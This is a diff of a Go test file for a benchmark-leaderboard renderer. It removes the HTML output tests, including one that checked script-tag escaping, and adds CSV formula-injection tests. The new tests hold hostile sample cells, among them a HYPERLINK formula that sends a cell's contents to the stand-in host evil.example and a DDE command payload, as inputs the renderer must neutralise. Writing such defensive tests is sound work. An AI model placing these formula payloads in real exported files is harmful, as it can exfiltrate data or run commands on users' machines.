@@ -45,7 +45,7 @@ func TestRenderUnknownFormat(t *testing.T) {
 	err := Render(&bytes.Buffer{}, fixtureLeaderboard(t), "xlsx")
 	require.Error(t, err)
 	assert.Contains(t, err.Error(), `"xlsx"`)
-	assert.Contains(t, err.Error(), "text, md, csv, json, html")
+	assert.Contains(t, err.Error(), "text, md, csv, json")
 }
 
 func TestRenderNilLeaderboard(t *testing.T) {
@@ -76,24 +76,10 @@ func TestRenderMarksMockEverywhere(t *testing.T) {
 			assert.Contains(t, out, note, format)
 		}
 		switch format {
-		case "text", "md", "html":
+		case "text", "md":
 			assert.Contains(t, out, "mock/mock-reasoner [mock]", format)
 			assert.NotContains(t, out, "openai/o4-mini [mock]", format)
 		}
-	}
-}
-
-func TestRenderHTMLEscapesUntrustedText(t *testing.T) {
-	lb := fixtureLeaderboard(t)
-	var buf bytes.Buffer
-	require.NoError(t, Render(&buf, lb, "html"))
-	out := buf.String()
-	assert.NotContains(t, out, "<script", "a model name must never become markup")
-	assert.NotContains(t, out, "alert('x')", "extracted answers never reach the page")
-	assert.Contains(t, out, "evil/&lt;script&gt;alert(1)&lt;/script&gt;")
-	assert.Contains(t, out, "<svg", "the chart is inline")
-	for _, external := range []string{"http", "src=", "href=", "url(", "@import"} {
-		assert.NotContains(t, out, external, "the page must load nothing from outside")
 	}
 }
 
@@ -180,31 +166,72 @@ func TestRenderTextColumnsAlign(t *testing.T) {
 	}
 }
 
-func TestHTMLChartsOnePerSubject(t *testing.T) {
-	en := run(1, "deepseek/deepseek-reasoner", "CN", "mgsm", 2, 1)
-	en.Subject = "en"
-	zh := run(2, "deepseek/deepseek-reasoner", "CN", "mgsm", 2, 1)
-	zh.Subject = "zh"
-	in := []Input{
-		{Run: en, Samples: samples(1, "parity-answer@1.0.0", spec{"en-1", 0, "correct", "1"}, spec{"en-2", 0, "correct", "2"})},
-		{Run: zh, Samples: samples(2, "parity-answer@1.0.0", spec{"zh-1", 0, "wrong", "1"}, spec{"zh-2", 0, "correct", "2"})},
-	}
-	lb, err := Build(in, fixedOptions())
-	require.NoError(t, err)
-	var buf bytes.Buffer
-	require.NoError(t, Render(&buf, lb, "html"))
-	page := buf.String()
-	assert.Contains(t, page, "<h2>mgsm:en@1</h2>")
-	assert.Contains(t, page, "<h2>mgsm:zh@1</h2>", "mgsm:zh gets its own chart, not bars under the mgsm:en title")
-	assert.Equal(t, 2, strings.Count(page, `aria-label="accuracy on `))
-}
-
 func TestLanguageColumnIsText(t *testing.T) {
 	right := rightAligned(languageHeader)
 	for i, h := range languageHeader {
 		if h == "LANGUAGE" {
 			assert.False(t, right[i], "language codes are text, aligned left like SUITE and MODEL")
 		}
+	}
+}
+
+// A spreadsheet runs a cell that starts with = + - @ tab or CR as a formula
+// (OWASP "CSV Injection"); every text cell that comes from an endpoint,
+// the catalog or the user must arrive as text.
+func TestRenderCSVNeutralisesFormulas(t *testing.T) {
+	lb := fixtureLeaderboard(t)
+	r := &lb.Rows[0]
+	r.ModelReported = `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	r.Model = "@SUM(1+1)*cmd|' /C calc'!A0"
+	r.Provider = "+1+1"
+	r.Thinking = "-2+3"
+	r.Status = "\t=1"
+	r.Subject = "\r=1"
+	r.Currency = "＝1+1" // fullwidth equals sign: some spreadsheets read it as "="
+	r.Scorers = []string{"=cmd"}
+	r.CILow = 0 // numeric cells are data, never prefixed
+	var buf bytes.Buffer
+	require.NoError(t, Render(&buf, lb, "csv"))
+	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
+	require.NoError(t, err)
+	col := map[string]int{}
+	for i, h := range recs[0] {
+		col[h] = i
+	}
+	row := recs[1]
+	for name, want := range map[string]string{
+		"model_reported": `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
+		"model":          "'@SUM(1+1)*cmd|' /C calc'!A0",
+		"provider":       "'+1+1",
+		"thinking":       "'-2+3",
+		"status":         "'\t=1",
+		"subject":        "'\r=1",
+		"currency":       "'＝1+1",
+		"scorers":        "'=cmd",
+		"ci_low":         "0",
+	} {
+		assert.Equal(t, want, row[col[name]], name)
+	}
+	for _, rec := range recs[2:] {
+		for _, cell := range rec {
+			assert.False(t, strings.HasPrefix(cell, "="), "untouched rows keep plain values: %q", cell)
+		}
+	}
+}
+
+func TestCSVText(t *testing.T) {
+	for in, want := range map[string]string{
+		"":            "",
+		"gsm8k":       "gsm8k",
+		"-0.5":        "'-0.5", // a text cell that looks like a number is still text
+		"a=b":         "a=b",
+		"=1":          "'=1",
+		"@x":          "'@x",
+		"＠x":          "'＠x",
+		"'already":    "'already",
+		"deepseek/r1": "deepseek/r1",
+	} {
+		assert.Equal(t, want, csvText(in), "%q", in)
 	}
 }
 
@@ -217,18 +244,18 @@ func TestRenderFlagsSubstitutedModel(t *testing.T) {
 	in[0].Run.Model.ID = "gemini/gemini-2.5-pro"
 	in[0].Run.ModelReported = "gemini-3.8-flash"
 	in[1].Run.ModelReported = "o4-mini-2025-04-16" // a dated snapshot is the same model
-	lb, err := Build(in, Options{})
+	lb, err := Build(in, fixedOptions())
 	require.NoError(t, err)
 	for _, format := range Formats {
 		var buf bytes.Buffer
 		require.NoError(t, Render(&buf, lb, format))
 		out := buf.String()
 		switch format {
-		case "text", "md", "html":
+		case "text", "md":
 			assert.Contains(t, out, "gemini/gemini-2.5-pro [answered by gemini-3.8-flash]", format)
 			assert.NotContains(t, out, "o4-mini [answered by", format)
 		case "json":
-			assert.Contains(t, out, `"substituted": true`, format)
+			assert.Regexp(t, `"substituted": ?true`, out, format)
 		}
 	}
 }
